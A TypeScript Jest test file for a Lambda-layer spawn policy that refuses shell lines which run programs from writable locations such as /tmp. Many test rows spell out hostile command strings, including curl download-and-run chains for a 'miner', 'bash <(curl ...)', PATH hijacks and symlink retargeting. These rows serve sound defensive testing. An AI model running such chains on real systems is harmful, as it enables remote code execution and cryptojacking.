// A shell line changes the world its later commands run in: an earlier
// command downloads the program (curl -o /tmp/x && /tmp/x), cd's, or changes
// PATH. A command that does not exist yet, or that is reached through a
// writable place, must not be let through as "it fails natively".
import { FakeFile, fakeSystem, LAMBDA_FILES } from './fake-system';
import { policy, PRELOAD_OPTION as PRELOAD, refused } from './helpers';
import { evaluate } from '../../../lambda-layer/src/decision';
import type { SpawnRequest } from '../../../lambda-layer/src/types';

const system = fakeSystem({
  ...LAMBDA_FILES,
  '/tmp/x.json': { content: '{}', mode: 0o100644 },
  '/tmp/bin': { link: '/usr/bin' },
  '/tmp/sub/dir/keep': { content: 'x', mode: 0o100644 },
  '/var/task/env.sh': { content: 'X=1\n', mode: 0o100644 },
  '/var/task/tmp': { link: '/tmp' },
  '/usr/bin/chmod': { content: '\x7fELF' },
  '/usr/bin/gzip': { content: '\x7fELF' },
  '/usr/bin/cp': { content: '\x7fELF' },
  '/usr/bin/ln': { content: '\x7fELF' },
  '/usr/bin/wget': { content: '\x7fELF' },
});
const ENV = { PATH: '/usr/local/bin:/usr/bin:/bin', NODE_OPTIONS: PRELOAD, HOME: '/home/sbx_user1051' };

const DRIFT = policy();
const ALERT = policy({ m: 'a' });
const STRICT = policy({ a: ['sh', 'ls', 'cat', 'curl', 'chmod', 'gzip', 'cp', 'ln', '/var/task/bin/catdoc'] });

function spawn(file: string, args: string[], over: Partial<SpawnRequest> = {}): SpawnRequest {
  return { kind: 'spawn', api: 'spawnSync', file, args, cwd: '/var/task', env: ENV, envExplicit: false, ...over };
}
function sh(line: string, over: Partial<SpawnRequest> = {}): SpawnRequest {
  return spawn('/bin/sh', ['/bin/sh', '-c', line], over);
}
// Rows may add files; the extra files come as a rest parameter (a third
// declared parameter would make jest wait for a `done` callback).
type Case = [string, SpawnRequest, ...Record<string, FakeFile>[]];

describe('the reported lines (drift prevention, default policy)', () => {
  it.each([
    ['download-and-run in one line', 'curl -s http://127.0.0.1:1/miner -o /tmp/miner && chmod +x /tmp/miner && /tmp/miner', '/tmp/miner'],
    ['a /tmp path that does not exist yet after another command', 'echo hi > /dev/null; /tmp/doesnotexist', '/tmp/doesnotexist'],
    ['a relative command after the line cds to /tmp', 'cd /tmp && ./miner', '/tmp/miner'],
    ['a bare name behind a PATH prefix assignment', 'PATH=/tmp:$PATH miner', '/tmp/miner'],
    ['a bare name after export PATH', 'export PATH=/tmp:$PATH; miner', '/tmp/miner'],
  ])('refuses %s (writable-location, reported in ALERT too)', (_name, line, resolved) => {
    const d = refused(evaluate(DRIFT, sh(line), system));
    expect(d.control).toBe('process');
    expect(d.detail?.rule).toBe('writable-location');
    expect(d.detail?.resolved).toBe(resolved);
    expect(d.reason).toMatch(/could be created at .* before it runs \(\/tmp is a writable location\)/);
    // The same rule as a program already in /tmp: a static refusal, so ALERT reports it and lets it run.
    expect(d.always).toBeUndefined();
    expect(refused(evaluate(ALERT, sh(line), system)).detail?.rule).toBe('writable-location');
  });

  it('refuses them under a strict allowlist too', () => {
    expect(refused(evaluate(STRICT, sh('curl -o /tmp/miner x && /tmp/miner'), system)).detail?.rule).toBe('writable-location');
    expect(refused(evaluate(STRICT, sh('cd /tmp && ./miner'), system)).detail?.rule).toBe('writable-location');
  });
});

describe('commands that do not exist yet', () => {
  it.each([
    ['a top-level spawn of a missing /tmp file', spawn('/tmp/miner', ['miner'])],
    ['a top-level spawn of a missing file relative to cwd /tmp', spawn('./miner', ['miner'], { cwd: '/tmp' })],
    ['a top-level spawn of a name not found on a PATH with /tmp', spawn('miner', ['miner'], { env: { ...ENV, PATH: '/usr/bin:/tmp' } })],
    ['a missing /tmp file in a directory that does not exist yet', sh('mkdir -p /tmp/a/b; /tmp/a/b/miner')],
    ['/tmp/../tmp/x', sh('/tmp/../tmp/miner')],
    ['//tmp/x', sh('//tmp/miner')],
    ['a path through a /var/task symlink into /tmp', sh('/var/task/tmp/miner')],
    ['a path that leaves a /tmp directory by ..', sh('/tmp/a/../../var/task/bin/miner')],
    ['a /tmp directory reached by .. from a fixed one', sh('/var/task/../../tmp/miner')],
    ['/proc/self/cwd after cd /tmp', sh('cd /tmp; /proc/self/cwd/miner')],
    ['a relative command after cd to a missing /tmp directory', sh('cd /tmp/new && ./miner')],
    ['a relative command after pushd /tmp', sh('pushd /tmp; ./miner')],
    ['a relative command after cd through CDPATH', sh('CDPATH=/tmp; cd sub && ./miner')],
    ['a relative command after cd with HOME=/tmp', sh('HOME=/tmp; cd; ./miner')],
    ['a cd that comes later in the text but runs first (function)', sh('f() { ./miner; }; cd /tmp; f')],
    ['a cd that comes later in the text but runs first (loop)', sh('for i in 1 2; do ./miner; cd /tmp; done')],
    ['a PATH change after a function definition that uses it', sh('f() { miner; }; PATH=/tmp:$PATH; f')],
    ['a cd inside a function called before the command', sh('f() { cd /tmp; }; f; ./miner')],
    ['a trap that runs after a later cd', sh("trap './miner' EXIT; cd /tmp")],
    ['builtin cd', spawn('bash', ['bash', '-c', 'builtin cd /tmp; ./miner'])],
    ['command cd', sh('command cd /tmp; ./miner')],
    ['a cd in a brace group', sh('{ cd /tmp; }; ./miner')],
    ['cd with .. into /tmp', sh('cd /var/../tmp; ./miner')],
    ['a local PATH in a function', spawn('bash', ['bash', '-c', 'f() { local PATH=/tmp; miner; }; f'])],
    ['readonly PATH', sh('readonly PATH=/tmp:$PATH; miner')],
    ['env PATH= for a nested sh -c', sh('env PATH=/tmp:/usr/bin sh -c miner')],
    ['PATH change, then command/exec/nohup by name', sh('PATH=/tmp:$PATH; command miner; exec miner')],
    ['a PATH prefix for a function call', sh('f() { miner; }; PATH=/tmp:$PATH f')],
    ['a PATH prefix for a special builtin, which stays (sh)', sh('PATH=/tmp:$PATH :; miner')],
    ['a plain PATH assignment', sh('PATH=/tmp; miner')],
    ['declare -x PATH', spawn('bash', ['bash', '-c', 'declare -x PATH=/tmp:$PATH; miner'])],
    ['an empty PATH entry (the working directory) after cd /tmp', sh('cd /tmp; PATH=:/usr/bin miner')],
    ['a relative PATH entry after cd /tmp', sh('cd /tmp; PATH=.:/usr/bin miner')],
    ['a PATH with /tmp before the directory that has the name', sh('curl -o /tmp/ls x; PATH=/tmp:/usr/bin ls')],
    ['a relative command via env -C /tmp', sh('env -C /tmp ./miner')],
    ['exec of a missing /tmp file', sh('exec /tmp/miner')],
    ['env of a missing /tmp file', sh('env /tmp/miner')],
    ['nohup of a missing /tmp file in the background', sh('nohup /tmp/miner &')],
    ['timeout of a missing /tmp file', sh('timeout 5 /tmp/miner')],
    ['find -exec of a missing /tmp file', sh('find / -exec /tmp/miner \\;')],
    ['xargs running a missing /tmp file', sh('echo a | xargs /tmp/miner')],
    ['busybox running a missing /tmp file', sh('busybox wget -O /tmp/x.sh x; busybox sh /tmp/x.sh')],
    ['a nested sh -c after cd in the outer line', sh('cd /tmp; sh -c ./miner')],
    ['a missing /tmp script of sh', sh('curl -o /tmp/x.sh x; sh /tmp/x.sh')],
    ['a missing /tmp script of bash', sh('bash /tmp/x.sh')],
    ['a missing /tmp script of python', sh('python3 /tmp/x.py')],
    ['a missing /tmp script of node', sh('node /tmp/x.js')],
    ['a relative node script after cd /tmp (not a package name)', sh('cd /tmp && node miner')],
    ['a missing /tmp script of sh as a top-level spawn', spawn('sh', ['sh', '/tmp/x.sh'])],
    ['a missing /tmp module for node -r', spawn('node', ['node', '-r', '/tmp/hook.js', '/var/task/index.js'])],
    ['node -r of a package from cwd /tmp (its node_modules)', spawn('node', ['node', '-r', 'hook', '/var/task/index.js'], { cwd: '/tmp' })],
    ['python -m from cwd /tmp', sh('cd /tmp && python3 -m miner')],
    ['a #! line naming a missing /tmp interpreter', spawn('/var/task/late.sh', ['late.sh']), { '/var/task/late.sh': { content: '#!/tmp/interp\n' } }],
  ] as Case[])('refuses %s', (_name: string, req: SpawnRequest, ...more: Record<string, FakeFile>[]) => {
    const extra = more[0];
    const sys = extra ? fakeSystem({ ...LAMBDA_FILES, ...extra, '/var/task/tmp': { link: '/tmp' } }) : system;
    const d = refused(evaluate(DRIFT, req, sys));
    expect(d.detail?.rule).toBe('writable-location');
  });

  it.each([
    ['sourcing a /tmp file that does not exist yet (.)', sh('curl -o /tmp/x x; . /tmp/x')],
    ['sourcing a /tmp file that does not exist yet (source)', spawn('bash', ['bash', '-c', 'source /tmp/x'])],
    ['sourcing a name found through a PATH with /tmp', sh('PATH=/tmp:$PATH; . x')],
    ['sourcing a name from the working directory after cd /tmp (bash)', spawn('bash', ['bash', '-c', 'cd /tmp; source x'])],
  ] as Case[])('refuses %s (always: the sourced code changes the rest of the line)', (_name, req) => {
    const d = refused(evaluate(DRIFT, req, system));
    expect(d.detail?.rule).toBe('writable-location');
    expect(d.always).toBe(true);
  });

  it.each([
    ['a dynamic cd target, then a relative command', sh('cd "$DIR" && ./tool')],
    ['cd -, then a relative command', sh('cd /var/task; cd -; ./bin/catdoc')],
    ['a dynamic PATH assignment, then a bare name', sh('PATH=$(cat /tmp/p); ls')],
    ['a dynamic export PATH, then a bare name', sh('export PATH="$(cat /tmp/p)"; ls')],
    ['read PATH, then a bare name', sh('read PATH < /tmp/p; ls')],
    ['printf -v PATH, then a bare name', spawn('bash', ['bash', '-c', 'printf -v PATH %s /tmp; ls'])],
    ['a nameref to PATH, then a bare name', spawn('bash', ['bash', '-c', 'declare -n P=PATH; P=/tmp; ls'])],
    ['$(echo /tmp/x) as the command', sh('$(echo /tmp/x)')],
    ['sh -c "$(curl ...)"', sh('sh -c "$(curl -s http://x/)"')],
    ['a here-document into sh', sh('sh <<EOF\n/tmp/x\nEOF\n')],
    ['bash <(curl ...) (process substitution)', spawn('bash', ['bash', '-c', 'bash <(curl -s http://x/)'])],
    ['source <(curl ...)', spawn('bash', ['bash', '-c', 'source <(curl -s http://x/)'])],
    ['xargs handing a file name to sh', sh('echo /tmp/x | xargs sh')],
    ['~/x after copying it there', sh('cp /tmp/x ~/x && ~/x')],
    ['$HOME/x as the command', sh('cp /tmp/x "$HOME/x" && "$HOME/x"')],
    ['a relative command after cd with HOME unset', spawn('/bin/sh', ['/bin/sh', '-c', 'cd; ./tool'], { env: { PATH: ENV.PATH, NODE_OPTIONS: PRELOAD } })],
    ['python -m after a dynamic cd', sh('cd "$D"; python3 -m x')],
  ] as Case[])('refuses %s in every mode (always)', (_name, req) => {
    const d = refused(evaluate(ALERT, req, system));
    expect(d.always).toBe(true);
  });
});

describe('paths reached through a writable place in a line', () => {
  it.each([
    ['a /tmp symlink to a trusted binary, which the line can retarget', sh('ln -sf /tmp/evil /tmp/curl; /tmp/curl x')],
    ['a /tmp symlinked directory to /usr/bin', sh('/tmp/bin/ls')],
    ['a bare name found in a PATH directory that is a /tmp symlink', sh('PATH=/tmp/bin ls')],
    ['/proc/self/fd of the shell', spawn('bash', ['bash', '-c', 'exec 3</tmp/evil; /proc/self/fd/3'])],
    ['/dev/fd of the shell', spawn('bash', ['bash', '-c', 'exec 3</tmp/evil; /dev/fd/3']), { '/dev/fd': { link: '/proc/self/fd' } }],
    ['/proc/self/exe (the shell, not node)', sh('/proc/self/exe -c id')],
    ['a /tmp symlink to a trusted script given to sh', sh('ln -sf /tmp/evil.sh /tmp/run.sh; sh /tmp/run.sh'), { '/tmp/run.sh': { link: '/var/task/run.sh' } }],
  ] as Case[])('refuses %s', (_name: string, req: SpawnRequest, ...more: Record<string, FakeFile>[]) => {
    const extra = more[0];
    const sys = extra ? fakeSystem({ ...LAMBDA_FILES, ...extra, '/tmp/bin': { link: '/usr/bin' }, '/usr/bin/ln': { content: '\x7fELF' } }) : system;
    expect(refused(evaluate(DRIFT, req, sys)).detail?.rule).toBe('writable-location');
  });

  // The shell sets $PWD itself (to where it is, after each cd): the environment's PWD is not its value.
  it.each([
    'cd /tmp && PATH=$PWD:$PATH evil',
    'cd /tmp; export PATH="$PWD"; evil',
  ])('refuses %j, whatever PWD the environment holds', (line) => {
    for (const PWD of ['/var/task', '']) {
      const d = refused(evaluate(DRIFT, sh(line, { env: { ...ENV, PWD } }), fakeSystem({ ...LAMBDA_FILES, '/tmp/evil': { content: '\x7fELF' } })));
      expect(d.detail?.rule).toBe('writable-location');
    }
  });

  it('keeps a top-level spawn of a /tmp symlink to a trusted binary as it was (what runs is checked at the call)', () => {
    expect(evaluate(DRIFT, spawn('/tmp/curl', ['curl', '-c', 'ls']), system)).toEqual({ allow: true });
  });
});

describe('look-alikes that still run', () => {
  it.each([
    ['cd to the code directory, then a relative trusted binary', sh('cd /var/task && ./bin/catdoc x')],
    ['a relative trusted binary from cwd /var/task after cd /var/task/bin and back', sh('cd /var/task/bin; cd ..; ./bin/catdoc')],
    ['a PATH prefix of system directories', sh('PATH=/usr/bin:/bin ls')],
    ['export PATH of system and code directories', sh('export PATH=/usr/bin:/var/task/bin; catdoc x; ls')],
    ['compressing into /tmp', sh('gzip -c data > /tmp/x.gz')],
    ['listing /tmp', sh('ls /tmp')],
    ['cd /tmp, then system tools by name', sh('cd /tmp && ls -l && cat x.json')],
    ['reading a /tmp file', sh('cat /tmp/x.json')],
    ['downloading to /tmp without running it', sh('curl -s http://x/ -o /tmp/data.bin && ls -l /tmp/data.bin')],
    ['a symlink into read-only /var/task (ln fails natively)', sh('ln -s /tmp/x /var/task/y && /var/task/y')],
    ['a missing command outside writable locations in a line', sh('ls; /nonexistent/tool')],
    ['a missing bare name on a PATH of fixed directories', sh('no-such-tool')],
    ['sourcing a trusted file', sh('. /var/task/env.sh; ls')],
    ['sourcing a missing file outside writable locations', sh('. /nonexistent/env.sh')],
    ['python -m from the code directory', spawn('python3', ['python3', '-m', 'json.tool'])],
    ['python -I -m from cwd /tmp (the working directory is not on sys.path)', spawn('python3', ['python3', '-I', '-m', 'json.tool'], { cwd: '/tmp' })],
    ['node -r of a package from cwd /var/task', spawn('node', ['node', '-r', 'dotenv/config', '/var/task/index.js'])],
    ['a here-document written to /tmp, then read', sh('cat > /tmp/x.json <<EOF\n{}\nEOF\ncat /tmp/x.json')],
  ] as Case[])('allows %s', (_name, req) => {
    expect(evaluate(DRIFT, req, system)).toEqual({ allow: true });
  });

  it('keeps a top-level spawn of a missing file outside writable locations failing natively', () => {
    expect(evaluate(DRIFT, spawn('/nonexistent/tool', ['tool']), system)).toEqual({ allow: true });
    expect(evaluate(DRIFT, spawn('no-such-tool', ['no-such-tool']), system)).toEqual({ allow: true });
    expect(evaluate(DRIFT, spawn('./missing', ['missing']), system)).toEqual({ allow: true });
  });

  it('trusts a missing file under allowedWritablePaths', () => {
    const p = policy({ w: ['/tmp/tools'] });
    expect(evaluate(p, sh('cp /var/task/bin/catdoc /tmp/tools/new && /tmp/tools/new'), system)).toEqual({ allow: true });
    expect(refused(evaluate(p, sh('/tmp/new'), system)).detail?.rule).toBe('writable-location');
  });
});
